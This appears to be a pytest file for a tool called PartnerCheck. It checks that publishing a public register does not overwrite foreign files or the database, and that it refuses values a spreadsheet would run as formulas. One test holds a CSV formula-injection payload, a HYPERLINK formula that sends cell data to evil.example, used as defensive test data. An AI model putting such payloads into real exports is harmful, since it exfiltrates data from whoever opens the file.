"""The public register written over files it must not touch: a metadata.json or a file at the
register's name that PartnerCheck did not write (kept, unless --force), the database itself
(never), and values a spreadsheet would run as a formula when Datasette serves the table as CSV
(refused, naming the tie and the column)."""

from __future__ import annotations

import dataclasses
import json
import sqlite3

from partnercheck.domain.assessment import Answer, AssessmentState
from partnercheck.services import assessments


def _published(store, new_assessment, library, run):  # type: ignore[no-untyped-def]
    assessment_id = store.create(new_assessment)
    for q in library.active.questions:
        store.save_answer(assessment_id, q.id, Answer(min(q.options, key=lambda o: o.risk).value))
    assessments.change_state(store, assessment_id, AssessmentState.REVIEW)
    assessments.change_state(store, assessment_id, AssessmentState.FINAL, by="B. Baas")
    assert run("approve-publication", str(assessment_id), "--by", "M. Burgemeester", "--note", "Gewogen")[0] == 0
    return assessment_id


def test_a_metadata_json_partnercheck_did_not_write_is_kept(run, store, new_assessment, library, tmp_path):  # type: ignore[no-untyped-def]
    _published(store, new_assessment, library, run)
    site = tmp_path / "site"
    site.mkdir()
    theirs = site / "metadata.json"
    theirs.write_text('{"title": "Our open data portal", "databases": {"budget": {}}}\n', encoding="utf-8")
    code, _, err = run("publish", "--out", str(site / "register.sqlite3"))
    assert code == 2 and str(theirs) in err and "--force" in err
    assert theirs.read_text(encoding="utf-8").startswith('{"title": "Our open data portal"')
    assert sorted(p.name for p in site.iterdir()) == ["metadata.json"]  # no register either: both or neither

    code, out, err = run("publish", "--out", str(site / "register.sqlite3"), "--force")
    assert code == 0, err
    assert json.loads(theirs.read_text(encoding="utf-8"))["source"].startswith("PartnerCheck")
    # Written once, PartnerCheck's own files are replaced on the next publication without asking.
    code, _, err = run("publish", "--out", str(site / "register.sqlite3"))
    assert code == 0, err


def test_a_file_at_the_register_name_that_is_no_register_is_kept(run, store, new_assessment, library, tmp_path):  # type: ignore[no-untyped-def]
    _published(store, new_assessment, library, run)
    other = tmp_path / "budget.sqlite3"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE budget (year INTEGER, euros INTEGER)")
    conn.commit()
    conn.close()
    before = other.read_bytes()
    code, _, err = run("publish", "--out", str(other))
    assert code == 2 and str(other) in err and "--force" in err
    assert other.read_bytes() == before and not (tmp_path / "metadata.json").exists()


def test_the_register_is_never_written_over_the_database_itself(run, store, new_assessment, library, db_path):  # type: ignore[no-untyped-def]
    _published(store, new_assessment, library, run)
    count = len(store.list_summaries())
    for extra in ((), ("--force",)):
        code, _, err = run("publish", "--out", str(db_path), *extra)
        assert code == 2 and str(db_path) in err and "database" in err
    assert len(store.list_summaries()) == count
    assert not (db_path.parent / "metadata.json").exists()


def test_a_party_name_a_spreadsheet_would_run_is_not_published(run, store, new_assessment, library, tmp_path):  # type: ignore[no-untyped-def]
    hostile = dataclasses.replace(new_assessment.partnership, counterpart='=HYPERLINK("http://evil.example/?"&A1,"Yangzhou")')
    assessment_id = _published(store, dataclasses.replace(new_assessment, partnership=hostile), library, run)
    out = tmp_path / "register.sqlite3"
    code, _, err = run("publish", "--out", str(out))
    assert code == 2 and "counterpart" in err and f"tie {store.tie_of(assessment_id)}" in err and "formula" in err
    assert not out.exists() and not (tmp_path / "metadata.json").exists()


def test_two_registers_in_one_folder_keep_each_others_metadata(run, store, new_assessment, library, tmp_path):  # type: ignore[no-untyped-def]
    _published(store, new_assessment, library, run)
    for name in ("gemeente.sqlite3", "provincie.sqlite3"):
        code, _, err = run("publish", "--out", str(tmp_path / name))
        assert code == 0, err
    meta = json.loads((tmp_path / "metadata.json").read_text(encoding="utf-8"))
    assert sorted(meta["databases"]) == ["gemeente", "provincie"]
